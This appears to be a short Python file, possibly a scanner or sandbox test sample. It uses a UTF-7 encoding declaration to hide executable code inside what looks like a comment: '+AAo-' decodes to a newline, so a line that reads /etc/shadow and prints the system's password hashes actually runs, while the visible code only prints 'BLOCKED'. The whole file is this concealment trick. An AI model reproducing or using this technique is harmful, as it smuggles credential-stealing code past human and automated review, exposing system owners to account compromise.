# -*- coding: utf-7 -*-
# +AAo-print(open("/etc/shadow").read())
print("BLOCKED")
